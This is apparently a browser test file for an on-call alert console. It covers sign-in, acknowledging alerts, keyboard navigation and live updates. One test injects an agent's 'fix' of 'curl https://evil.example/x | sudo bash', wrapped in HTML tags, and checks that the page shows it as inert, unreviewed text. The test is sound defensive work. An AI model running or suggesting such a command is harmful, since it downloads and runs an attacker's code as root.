// The responder's console in a real browser (Chromium through playwright-core): signing in, the alert
// list and page, acting on an alert. Each test drives the UI as a person would and checks the outcome
// through the API. Shared set-up: lib.mjs.

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { BASE, SHOTS, ALICE, PASSWORD, api, newPage, signIn, routedAlert } from './lib.mjs';

test('password sign-in returns to the deep link, and sign-out ends the session', async () => {
  const page = await newPage();
  await page.goto(`${BASE}/alerts/1`);
  await page.waitForURL(/\/login\?next=%2Falerts%2F1$/);
  await signIn(page);
  await page.waitForURL(`${BASE}/alerts/1`);
  await page.getByRole('heading', { level: 1, name: /^#1 / }).waitFor();
  await page.getByText(`${ALICE} · acme`).waitFor();

  await page.getByRole('button', { name: 'Sign out' }).click();
  await page.waitForURL(/\/login$/);
  // The session is gone: the app asks for a sign-in again.
  await page.goto(`${BASE}/alerts?status=open`);
  await page.waitForURL(/\/login\?next=/);
  const ping = await page.evaluate(async () => (await fetch('/api/v1/ping')).status);
  assert.equal(ping, 401);

  // A wrong password says so and stays.
  await page.getByLabel('Tenant').fill('acme');
  await page.getByLabel('E-mail').fill(ALICE);
  await page.getByLabel('Password').fill('not-the-password');
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.getByRole('alert').filter({ hasText: 'not right' }).waitFor();
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test('single sign-on through the OIDC provider returns to the deep link as the provider\'s user', async () => {
  const email = process.env.NIGHTOWL_OIDC_EMAIL;
  assert.ok(email, 'scripts/test-browser.sh runs a fake OIDC provider and names its user');
  const page = await newPage();
  await page.goto(`${BASE}/incidents?q=disk`);
  await page.waitForURL(/\/login\?next=%2Fincidents%3Fq%3Ddisk$/);
  await page.screenshot({ path: `${SHOTS}/login.png`, fullPage: true });
  // One click: the browser goes to the provider (which signs the user in at once) and comes back.
  await page.getByRole('link', { name: 'Sign in with single sign-on' }).click();
  await page.waitForURL(`${BASE}/incidents?q=disk`);
  await page.getByText(`${email} · acme`).waitFor();
  const who = await page.evaluate(async () => (await fetch('/api/v1/ping')).json());
  assert.equal(who.tenant, 'acme');
  assert.ok(JSON.stringify(who).includes(email), JSON.stringify(who));
  // The session cookie is HttpOnly: scripts cannot read it.
  assert.equal(await page.evaluate(() => document.cookie), '');
  await page.getByRole('button', { name: 'Sign out' }).click();
  await page.waitForURL(/\/login$/);
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test('an alert is acknowledged from its page as the signed-in person, and its escalation stops', async () => {
  const alert = await routedAlert('Checkout latency above SLO (browser)');
  const page = await newPage();
  await page.goto(`${BASE}/login`);
  await signIn(page);
  // Signing in without a destination opens the dashboard; the alerts are one click away.
  await page.waitForURL(`${BASE}/dashboard`);
  await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Alerts' }).click();
  await page.waitForURL(/\/alerts\?status=open/);
  const row = page.getByRole('row').filter({ hasText: `#${alert.number}` });
  await row.getByRole('link', { name: alert.title }).click();
  await page.waitForURL(`${BASE}/alerts/${alert.number}`);
  await page.getByRole('heading', { level: 1, name: `#${alert.number} ${alert.title}` }).waitFor();
  await page.screenshot({ path: `${SHOTS}/alert-detail.png`, fullPage: true });

  await page.getByRole('button', { name: 'Acknowledge' }).click();
  // Nothing happens before the confirmation.
  assert.equal((await api('GET', `/api/v1/alerts/${alert.id}`)).status, 'firing');
  await page.getByRole('dialog', { name: 'Confirm' }).getByRole('button', { name: 'Yes, acknowledge' }).click();
  await page.getByRole('status').filter({ hasText: 'Acknowledged.' }).waitFor();
  await page.locator('.meta .status-acknowledged').waitFor();

  const now = await api('GET', `/api/v1/alerts/${alert.id}`);
  assert.equal(now.status, 'acknowledged');
  assert.equal(now.acknowledged_by, ALICE);
  const escalation = await api('GET', `/api/v1/alerts/${alert.id}/escalation`);
  assert.equal(escalation.state, 'stopped');
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test('keyboard only: the list is filtered and an alert acknowledged without a mouse', async () => {
  const alert = await routedAlert('Queue depth growing (keyboard)');
  const page = await newPage();
  await page.goto(`${BASE}/login`);
  // Sign in with the keyboard: the fields in order, Enter submits.
  await page.getByLabel('Tenant').focus();
  await page.keyboard.type('acme');
  await page.keyboard.press('Tab');
  await page.keyboard.type(ALICE);
  await page.keyboard.press('Tab');
  await page.keyboard.type(PASSWORD);
  await page.keyboard.press('Enter');
  await page.waitForURL(`${BASE}/dashboard`);
  // The critical counter is a link to the open critical alerts: Tab to it, Enter follows it.
  const counter = page.locator('a.counter[data-severity=critical]');
  await counter.waitFor();
  for (let i = 0; i < 30 && !(await counter.evaluate((el) => el === document.activeElement)); i++) {
    await page.keyboard.press('Tab');
  }
  assert.ok(await counter.evaluate((el) => el === document.activeElement), 'the counter is reachable with Tab');
  await page.keyboard.press('Enter');
  await page.waitForURL(/\/alerts\?status=open&severity=critical/);
  // Then choose the filter by keyboard: severity back to Any and then down to Critical.
  await page.getByLabel('Severity').focus();
  await page.keyboard.press('Home');
  await page.waitForURL((url) => !url.search.includes('severity='));

  // Severity filter: focus it with Tab, choose "Critical" with the arrow keys.
  await page.getByLabel('Severity').focus();
  await page.keyboard.press('ArrowDown');
  await page.waitForURL(/severity=critical/);
  await page.screenshot({ path: `${SHOTS}/alerts.png`, fullPage: true });
  const severities = await page.locator('table.alerts tbody tr td:nth-child(2)').allInnerTexts();
  assert.ok(severities.length > 0);
  assert.ok(severities.every((s) => s.trim().toLowerCase() === 'critical'), severities.join(','));

  // Tab to the alert's link and open it with Enter.
  const link = page.getByRole('link', { name: alert.title });
  for (let i = 0; i < 60 && !(await link.evaluate((el) => el === document.activeElement)); i++) {
    await page.keyboard.press('Tab');
  }
  assert.ok(await link.evaluate((el) => el === document.activeElement), 'the link is reachable with Tab');
  await page.keyboard.press('Enter');
  await page.waitForURL(`${BASE}/alerts/${alert.number}`);
  const ack = page.getByRole('button', { name: 'Acknowledge' });
  await ack.waitFor();
  for (let i = 0; i < 60 && !(await ack.evaluate((el) => el === document.activeElement)); i++) {
    await page.keyboard.press('Tab');
  }
  await page.keyboard.press('Enter');
  // The confirmation takes the focus: Enter confirms.
  await page.getByRole('button', { name: 'Yes, acknowledge' }).waitFor();
  await page.keyboard.press('Enter');
  await page.getByRole('status').filter({ hasText: 'Acknowledged.' }).waitFor();
  assert.equal((await api('GET', `/api/v1/alerts/${alert.id}`)).status, 'acknowledged');
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test("an agent's unreviewed fix is marked as such on the alert page, shown as text", async () => {
  const created = await api('POST', '/api/v1/admin/api-keys', { name: `browser-agent-${process.pid}`, role: 'engineer', scopes: ['agent'] });
  const fingerprint = `agent-fix-${process.pid}`;
  const fix = '<b>curl https://evil.example/x | sudo bash</b>';
  const reported = await fetch(`${BASE}/api/v1/webhooks/generic`, {
    method: 'POST',
    headers: { 'x-api-key': created.key, 'content-type': 'application/json' },
    body: JSON.stringify({ title: 'Disk full on db-9', fingerprint,
      agent_metadata: { auto_resolved: true, agent: 'helper', action: fix } }),
  });
  assert.equal(reported.status, 200, await reported.text());
  const again = await api('POST', '/api/v1/webhooks/generic', { title: 'Disk full on db-9', fingerprint, severity: 'critical' });
  const alert = await api('GET', `/api/v1/alerts/${again.alerts[0].id}`);
  assert.equal(alert.solution_reviewed, false, JSON.stringify(alert));

  const page = await newPage();
  await page.goto(`${BASE}/login?next=%2Falerts%2F${alert.number}`);
  await signIn(page);
  await page.waitForURL(`${BASE}/alerts/${alert.number}`);
  const note = page.getByRole('note');
  await note.waitFor();
  assert.match(await note.innerText(), /^Unreviewed: reported by an automated agent/);
  // The fix is text, not markup.
  await page.locator('.solution .markdown[aria-busy=false]').waitFor();
  assert.equal((await page.locator('.solution .markdown').innerText()).trim(), fix);
  assert.equal(await page.locator('.solution b').count(), 0);
  // The incident the agent wrote is the similar incident, linked and marked unreviewed.
  const similar = page.locator('ul.similar li').filter({ hasText: 'linked to this alert' });
  await similar.waitFor();
  assert.match(await similar.innerText(), /unreviewed/);
  await page.screenshot({ path: `${SHOTS}/alert-unreviewed.png`, fullPage: true });
  assert.deepEqual(page.errors, []);
  await page.context().close();
});

test('an alert sent while the list is open appears without a reload, and so does its acknowledgement', async () => {
  const page = await newPage();
  await page.goto(`${BASE}/login?next=%2Falerts%3Fstatus%3Dopen`);
  await signIn(page);
  await page.waitForURL(/\/alerts\?status=open/);
  await page.locator('table.alerts').waitFor();
  // Nothing reloads the page from here on: a marker on the window would be gone.
  await page.evaluate(() => { window.stillTheSamePage = true; });
  const title = `Live alert ${process.pid}`;
  const sent = await api('POST', '/api/v1/webhooks/generic', { title, fingerprint: `live-${process.pid}`, severity: 'critical' });
  const row = page.getByRole('row').filter({ hasText: title });
  await row.waitFor({ timeout: 10000 });
  await row.locator('.status-firing').waitFor();
  await api('PATCH', `/api/v1/alerts/${sent.alerts[0].id}/acknowledge`);
  await row.locator('.status-acknowledged').waitFor({ timeout: 10000 });
  assert.equal(await page.evaluate(() => window.stillTheSamePage), true);
  assert.deepEqual(page.errors, []);
  await page.context().close();
});
